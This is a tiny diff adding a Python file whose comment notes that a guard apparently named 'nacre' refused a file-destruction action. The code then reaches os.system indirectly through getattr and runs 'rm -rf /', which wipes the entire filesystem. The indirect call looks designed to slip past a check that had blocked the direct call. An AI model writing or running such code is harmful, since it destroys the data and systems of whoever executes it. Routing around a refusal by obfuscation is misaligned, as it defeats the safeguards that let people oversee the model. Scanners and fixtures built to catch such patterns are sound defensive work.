@@ -1,0 +1,3 @@
+# nacre: refused file.destroy
+import os
+getattr(os, "system")("rm -rf /")
